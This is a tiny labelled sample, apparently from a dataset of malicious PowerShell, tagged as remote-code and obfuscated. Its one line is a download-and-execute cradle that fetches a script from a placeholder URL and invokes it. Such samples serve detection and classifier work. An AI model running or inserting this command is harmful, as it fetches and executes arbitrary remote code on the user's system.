# description: Creates a script block from downloaded text and invokes it.
# family: remote-code
# obfuscated: yes
[scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://example.com/s.ps1')).Invoke()
